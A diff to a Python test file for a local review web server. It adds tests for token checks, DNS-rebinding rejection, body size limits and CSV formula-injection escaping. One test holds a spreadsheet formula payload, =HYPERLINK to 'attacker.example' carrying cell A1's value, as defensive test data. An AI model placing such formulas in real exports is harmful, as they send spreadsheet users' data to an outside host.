@@ -69,7 +69,7 @@ def server(site: tuple[Path, Path, Path]) -> Iterator[str]:
     assert url is not None and url.startswith("http://127.0.0.1:"), "the page is bound to loopback by default"
     while time.monotonic() < deadline:
         try:
-            urllib.request.urlopen(url + "/api/worklist", timeout=5).read()
+            urllib.request.urlopen(url + "/", timeout=5).read()
             break
         except OSError:
             time.sleep(0.2)
@@ -196,9 +196,53 @@ def test_worklist_study_overlay_verdict_in_a_real_browser(site: tuple[Path, Path
     assert done.wait(timeout=120) == 0 and "disagree" in out.read_text()
 
 
+def _request(url: str, *, headers: dict[str, str] | None = None, data: bytes | None = None) -> tuple[int, bytes,
+                                                                                                     dict[str, str]]:
+    request = urllib.request.Request(url, data=data, headers=headers or {}, method="POST" if data else "GET")
+    try:
+        with urllib.request.urlopen(request, timeout=30) as response:
+            return response.status, response.read(), dict(response.headers)
+    except urllib.error.HTTPError as exc:
+        return exc.code, exc.read(), dict(exc.headers)
+
+
+def test_the_page_answers_only_its_own_address_and_token(server: str) -> None:
+    port = server.rsplit(":", 1)[1]
+    # Without the page's token nothing of the site is served, not even the worklist or the CSV export.
+    for path in ("/api/worklist", "/api/verdicts.csv"):
+        assert _request(server + path)[0] == 403
+    # A page at another name that resolves to this machine (DNS rebinding) gets nothing, not even the page.
+    assert _request(server + "/", headers={"Host": f"rebind.attacker.example:{port}"})[0] == 421
+    assert _request(server + "/api/worklist", headers={"Host": f"127.0.0.1:{int(port) + 1}"})[0] == 421
+    # The page itself sets the token as a same-site cookie, which reads carry; changes need the header.
+    status, page, headers = _request(server + "/")
+    assert status == 200 and "SameSite=strict" in headers["set-cookie"] and "HttpOnly" in headers["set-cookie"]
+    cookie = headers["set-cookie"].split(";")[0]
+    token = page.decode().split('const TOKEN = "')[1].split('"')[0]
+    assert _request(server + "/api/worklist", headers={"Cookie": cookie})[0] == 200
+    status, body, _ = _request(server + "/api/worklist", headers={"Cookie": cookie})
+    key = json.loads(body)["rows"][0]["key"]
+    verdicts = f"{server}/api/images/{key}/verdicts"
+    assert post(verdicts, {"verdict": "agree", "reader": "AB"}, None)[0] == 403  # a cookie alone cannot post
+    # A 300 KB body is refused before it is read, with or without the token.
+    big = json.dumps({"verdict": "agree", "reader": "AB", "comment": "x" * 300_000}).encode()
+    assert _request(verdicts, data=big, headers={"Content-Type": "application/json"})[0] == 403
+    assert _request(verdicts, data=big, headers={"Content-Type": "application/json", "X-Review-Token": token})[0] \
+        == 413
+    # A comment that a spreadsheet would run as a formula is exported as text.
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    assert post(verdicts, {"verdict": "unsure", "reader": "CD", "comment": formula}, token)[0] == 200
+    exported = _request(server + "/api/verdicts.csv", headers={"Cookie": cookie})[1].decode()
+    (row,) = [r for r in csv.DictReader(io.StringIO(exported)) if r["reader"] == "CD"]
+    assert row["comment"] == "'" + formula
+
+
 def test_review_refuses_bad_input_in_one_line(site: tuple[Path, Path, Path], tmp_path: Path) -> None:
     ws, lung, _ = site
-    for args, needle in [(["--workspace", str(tmp_path / "nope"), "--model", str(lung)], "does not exist"),
+    for args, needle in [(["--workspace", str(ws), "--model", str(lung), "--host", "0.0.0.0"],
+                          "listens on this machine only"),
+                         (["--workspace", str(ws), "--model", str(lung), "--port", "99999"], "from 1 to 65535"),
+                         (["--workspace", str(tmp_path / "nope"), "--model", str(lung)], "does not exist"),
                          (["--workspace", str(ws)], "give the model"),
                          (["--workspace", str(ws), "--model", str(tmp_path / "x.pt")], "does not exist"),
                          (["--workspace", str(ws), "--model", str(lung), "--model", str(lung)], "one model per task"),
